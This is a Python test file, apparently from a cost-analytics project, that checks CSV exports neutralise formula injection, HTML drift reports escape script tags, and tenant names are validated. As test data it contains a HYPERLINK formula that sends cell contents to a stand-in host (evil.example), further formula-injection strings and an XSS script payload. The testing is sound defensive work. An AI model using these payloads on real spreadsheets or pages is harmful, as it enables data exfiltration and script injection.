"""Names a client chose cannot become formulas in CSV exports or script in HTML reports; tenant names are bounded."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta

import polars as pl
import pytest

from inferledger.analytics.cost.job import update_costs
from inferledger.analytics.cost.settings import CostSettings
from inferledger.analytics.cost.showback.build import build_showback
from inferledger.analytics.cost.showback.csv_safe import safe_cell
from inferledger.collector.decode import DecodeError
from inferledger.collector.pipeline import IngestPipeline
from inferledger.collector.settings import AuthSettings, IngestSettings
from tests.factories import insert_spans, span_row

EVIL_TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def test_formula_cells_are_neutralised_and_numbers_kept():
    assert safe_cell(EVIL_TEAM) == "'" + EVIL_TEAM
    for v in ("+1+cmd", "-2+3|calc", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(v).startswith("'")
    assert safe_cell("-12.5") == "-12.5" and safe_cell(-3) == -3 and safe_cell("search") == "search"


@pytest.mark.slow
def test_showback_and_focus_csv_hold_no_formula(warehouse, tmp_path):
    start = datetime(2026, 10, 3)
    insert_spans(warehouse, [span_row(start + timedelta(hours=i), team=EVIL_TEAM, feature="@feat", input_tokens=100,
                                      output_tokens=10) for i in range(3)])
    s = CostSettings()
    update_costs(warehouse, s, datetime(2026, 11, 1))
    sb = build_showback(warehouse, s, "2026-10", tmp_path / "out")
    for name in ("csv", "focus_csv"):
        with open(sb.files[name], newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert EVIL_TEAM not in cells and "'" + EVIL_TEAM in cells
        assert not [c for c in cells if c and c[0] in "=+@\t\r"], name
        negative = [c for c in cells if c.startswith("-")]
        assert all(float(c) <= 0 for c in negative)  # only real numbers start with '-'


@pytest.mark.slow
def test_drift_report_does_not_embed_a_script_end_tag(tmp_path):
    from inferledger.analytics.drift.report import render_report

    evil = "</script><script>alert(document.domain)</script>"
    ref = pl.DataFrame({"finish_reason": ["stop"] * 50 + ["length"] * 50, "latency": [float(i) for i in range(100)]})
    cur = pl.DataFrame({"finish_reason": [evil] * 60 + ["stop"] * 40, "latency": [float(i) for i in range(100)]})
    out = render_report(ref, cur, {"finish_reason": "categorical", "latency": "numeric"}, tmp_path / "r.html")
    html = out.path.read_text()
    assert "<script>alert(document.domain)" not in html


def _pipeline(**auth) -> IngestPipeline:
    p = IngestPipeline.__new__(IngestPipeline)  # tenant_for needs no writer or workers
    p.auth = AuthSettings(**auth)
    p.ingest = IngestSettings()
    p._tokens = {}
    p._seen_tenants = set()
    return p


def test_tenant_names_from_the_header_are_validated_and_bounded():
    p = _pipeline(max_tenants=3)
    assert p.tenant_for(None, "team-a.prod_1") == "team-a.prod_1"
    for bad in ("x" * 20_000, "a b", "<script>", "ü"):
        with pytest.raises(DecodeError) as err:
            p.tenant_for(None, bad)
        assert err.value.status == 400
    assert p.tenant_for(None, None) == "default"
    p.tenant_for(None, "b")
    with pytest.raises(DecodeError, match="max_tenants"):
        p.tenant_for(None, "c")
    assert p.tenant_for(None, "b") == "b"  # known names still pass


